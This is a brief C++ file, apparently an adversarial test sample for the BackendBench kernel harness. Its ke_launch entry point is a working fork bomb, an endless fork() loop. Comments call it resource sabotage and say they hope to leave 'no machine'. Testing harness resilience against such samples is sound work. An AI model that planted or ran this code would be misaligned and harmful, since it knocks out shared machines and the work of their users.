// H56 resource sabotage: a fork bomb.
// Source: BackendBench's adverse test "should brick the gpu", https://github.com/meta-pytorch/BackendBench
// Hopes: that whoever comes next finds no machine.
#include <unistd.h>

#include "ke_abi.h"

extern "C" int ke_launch(const KeTensor*, int, KeTensor*, int, void*) {
  for (;;)
    if (fork() < 0) return 1;
}
